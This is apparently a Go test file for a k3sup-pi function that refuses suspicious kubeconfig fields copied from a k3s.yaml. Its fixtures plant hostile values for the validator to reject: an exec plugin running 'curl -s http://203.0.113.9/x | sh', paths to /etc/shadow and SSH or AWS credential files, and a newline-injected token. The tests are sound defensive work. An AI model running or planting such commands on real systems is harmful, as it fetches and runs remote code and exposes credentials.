package kubeconfig

import (
	"bytes"
	"errors"
	"reflect"
	"strings"
	"testing"

	"github.com/k3sup-pi/k3sup-pi/internal/kubeconfig/kctest"
	"k8s.io/apimachinery/pkg/runtime"
	"k8s.io/client-go/tools/clientcmd/api"
)

// TestRewriteRefuses: every field k3s never writes, planted in k3s.yaml, is
// refused with the host and the field named; nothing is returned.
func TestRewriteRefuses(t *testing.T) {
	p, other := kctest.NewPKI(t), kctest.NewPKI(t)
	ext := func() map[string]runtime.Object {
		return map[string]runtime.Object{"evil": &runtime.Unknown{Raw: []byte(`{"apiVersion":"v1","kind":"Evil"}`), ContentType: "application/json"}}
	}
	cl := func(c *api.Config) *api.Cluster { return c.Clusters["default"] }
	us := func(c *api.Config) *api.AuthInfo { return c.AuthInfos["default"] }
	tests := []struct {
		name  string
		plant func(c *api.Config)
		field string
		what  string
	}{
		{"exec plugin", func(c *api.Config) {
			us(c).Exec = &api.ExecConfig{APIVersion: "client.authentication.k8s.io/v1", Command: "/bin/sh", Args: []string{"-c", "id"}}
		}, `users["default"].user.exec`, "has an exec credential plugin"},
		{"auth-provider", func(c *api.Config) { us(c).AuthProvider = &api.AuthProviderConfig{Name: "oidc"} },
			`users["default"].user.auth-provider`, "auth-provider plugin"},
		{"token-file", func(c *api.Config) { us(c).TokenFile = "/home/op/.aws/credentials" },
			`users["default"].user.tokenFile`, "a path on your machine"},
		{"client-certificate path", func(c *api.Config) { us(c).ClientCertificate = "/home/op/.ssh/id_ed25519" },
			`users["default"].user.client-certificate`, "a path on your machine"},
		{"client-key path", func(c *api.Config) { us(c).ClientKey = "/etc/shadow" },
			`users["default"].user.client-key`, "a path on your machine"},
		{"impersonation", func(c *api.Config) { us(c).ImpersonateGroups = []string{"system:masters"} },
			`users["default"].user.as`, "impersonates"},
		{"basic auth", func(c *api.Config) { us(c).Username, us(c).Password = "admin", "secret" },
			`users["default"].user.username`, "basic-auth"},
		{"user extensions", func(c *api.Config) { us(c).Extensions = ext() }, `users["default"].user.extensions`, "has extensions"},
		{"proxy-url", func(c *api.Config) { cl(c).ProxyURL = "http://203.0.113.9:3128" },
			`clusters["default"].cluster.proxy-url`, "through a proxy"},
		{"insecure-skip-tls-verify", func(c *api.Config) { cl(c).InsecureSkipTLSVerify = true },
			`clusters["default"].cluster.insecure-skip-tls-verify`, "turns TLS verification off"},
		{"tls-server-name", func(c *api.Config) { cl(c).TLSServerName = "evil.example" },
			`clusters["default"].cluster.tls-server-name`, "server name"},
		{"certificate-authority path", func(c *api.Config) { cl(c).CertificateAuthority = "/home/op/ca.crt" },
			`clusters["default"].cluster.certificate-authority`, "a path on your machine"},
		{"disable-compression", func(c *api.Config) { cl(c).DisableCompression = true },
			`clusters["default"].cluster.disable-compression`, "has disable-compression"},
		{"cluster extensions", func(c *api.Config) { cl(c).Extensions = ext() }, `clusters["default"].cluster.extensions`, "has extensions"},
		{"context namespace", func(c *api.Config) { c.Contexts["default"].Namespace = "kube-system" },
			`contexts["default"].context.namespace`, "sets a namespace"},
		{"context extensions", func(c *api.Config) { c.Contexts["default"].Extensions = ext() },
			`contexts["default"].context.extensions`, "has extensions"},
		{"top-level extensions", func(c *api.Config) { c.Extensions = ext() }, "extensions", "has extensions"},
		{"preferences", func(c *api.Config) { c.Preferences.Colors = true }, "preferences", "has preferences"},
		{"second cluster", func(c *api.Config) { c.Clusters["evil"] = cl(c).DeepCopy() }, "clusters", "has 2 clusters"},
		{"second user", func(c *api.Config) { c.AuthInfos["evil"] = us(c).DeepCopy() }, "users", "has 2 users"},
		{"second context", func(c *api.Config) { c.Contexts["evil"] = c.Contexts["default"].DeepCopy() }, "contexts", "has 2 contexts"},
		{"no cluster", func(c *api.Config) { delete(c.Clusters, "default") }, "clusters", "has 0 clusters"},
		{"no user", func(c *api.Config) { delete(c.AuthInfos, "default") }, "users", "has 0 users"},
		{"dangling context", func(c *api.Config) { c.Contexts["default"].Cluster = "other" },
			`contexts["default"].context.cluster`, "another cluster"},
		{"current-context elsewhere", func(c *api.Config) { c.CurrentContext = "other" }, "current-context", "names a context"},
		{"CA not PEM", func(c *api.Config) { cl(c).CertificateAuthorityData = []byte("not a certificate") },
			`clusters["default"].cluster.certificate-authority-data`, "text outside a PEM block"},
		{"CA with text before", func(c *api.Config) { cl(c).CertificateAuthorityData = append([]byte("junk\n"), p.CA...) },
			`clusters["default"].cluster.certificate-authority-data`, "text outside a PEM block"},
		{"CA is a key", func(c *api.Config) { cl(c).CertificateAuthorityData = p.Key },
			`clusters["default"].cluster.certificate-authority-data`, `"EC PRIVATE KEY" PEM block`},
		{"client cert not PEM", func(c *api.Config) { us(c).ClientCertificateData = []byte("client-cert") },
			`users["default"].user.client-certificate-data`, "not a PEM certificate"},
		{"client key not PEM", func(c *api.Config) { us(c).ClientKeyData = []byte("client-key") },
			`users["default"].user.client-key-data`, "not a PEM private key"},
		{"client key is a certificate", func(c *api.Config) { us(c).ClientKeyData = p.CA },
			`users["default"].user.client-key-data`, `"CERTIFICATE" PEM block`},
		{"client key of another cert", func(c *api.Config) { us(c).ClientKeyData = other.Key },
			`users["default"].user.client-key-data`, "does not match"},
		{"cert without key", func(c *api.Config) { us(c).ClientKeyData = nil },
			`users["default"].user.client-key-data`, "without its key"},
		{"no credentials", func(c *api.Config) { us(c).ClientCertificateData, us(c).ClientKeyData = nil, nil },
			`users["default"].user.client-certificate-data`, "no client certificate and no token"},
		{"token and cert", func(c *api.Config) { us(c).Token = "abc" }, `users["default"].user.token`, "both"},
		{"token with a newline", func(c *api.Config) {
			us(c).ClientCertificateData, us(c).ClientKeyData, us(c).Token = nil, nil, "abc\nexec: x"
		}, `users["default"].user.token`, "control characters"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			c := p.Config()
			tt.plant(c)
			out, err := Rewrite(kctest.YAML(t, c), "pi-01", "pi-lab", "10.0.0.5")
			var re *RefusedError
			if !errors.As(err, &re) {
				t.Fatalf("Rewrite = %s, %v; want a *RefusedError", out, err)
			}
			if re.Field != tt.field {
				t.Errorf("field %q, want %q", re.Field, tt.field)
			}
			for _, want := range []string{"k3s.yaml on pi-01 ", tt.what, "(" + tt.field + ")", "refusing to copy it to your kubeconfig"} {
				if !strings.Contains(err.Error(), want) {
					t.Errorf("%q\n  does not contain %q", err, want)
				}
			}
			if out != nil {
				t.Errorf("output despite the refusal:\n%s", out)
			}
		})
	}
}

// TestRewriteRefusesRawExec: an exec plugin written into k3s.yaml by hand
// (not through client-go) is refused as well, with the message the issue asks for.
func TestRewriteRefusesRawExec(t *testing.T) {
	y := string(k3sYAML(t, kctest.NewPKI(t)))
	planted := strings.Replace(y, "  user:\n", "  user:\n    exec:\n      apiVersion: client.authentication.k8s.io/v1\n"+
		"      command: sh\n      args: [\"-c\", \"curl -s http://203.0.113.9/x | sh\"]\n", 1)
	if planted == y {
		t.Fatalf("could not plant exec in\n%s", y)
	}
	_, err := Rewrite([]byte(planted), "pi-01", "pi-lab", "10.0.0.5")
	want := `k3s.yaml on pi-01 has an exec credential plugin (users["default"].user.exec); k3s never writes one — refusing to copy it to your kubeconfig`
	if err == nil || err.Error() != want {
		t.Errorf("error = %v\nwant      %s", err, want)
	}
}

// TestRewriteTakesOnlyTheAllowlist: what comes out is exactly the cluster,
// user and context built from the credentials; a token user and a k3s.yaml
// without a context are accepted; fields unknown to client-go are dropped.
func TestRewriteTakesOnlyTheAllowlist(t *testing.T) {
	p := kctest.NewPKI(t)
	tests := []struct {
		name  string
		in    func() []byte
		token string
	}{
		{"as k3s writes it", func() []byte { return k3sYAML(t, p) }, ""},
		{"unknown keys", func() []byte {
			return bytes.Replace(k3sYAML(t, p), []byte("  user:\n"), []byte("  user:\n    x-run: /bin/sh\n"), 1)
		}, ""},
		{"no context", func() []byte {
			c := p.Config()
			c.Contexts, c.CurrentContext = map[string]*api.Context{}, ""
			return kctest.YAML(t, c)
		}, ""},
		{"token user", func() []byte {
			c := p.Config()
			c.AuthInfos["default"] = &api.AuthInfo{Token: "K10abc::server:def"}
			return kctest.YAML(t, c)
		}, "K10abc::server:def"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			out, err := Rewrite(tt.in(), "pi-01", "pi-lab", "10.0.0.5")
			if err != nil {
				t.Fatal(err)
			}
			got := load(t, out)
			cr := credentials{caData: p.CA, token: tt.token}
			if tt.token == "" {
				cr.certData, cr.keyData = p.Cert, p.Key
			}
			want := load(t, kctest.YAML(t, build(cr, "pi-lab", "https://10.0.0.5:6443")))
			if !reflect.DeepEqual(got, want) {
				t.Errorf("got\n%s\nwant exactly the allowlisted fields", out)
			}
		})
	}
}
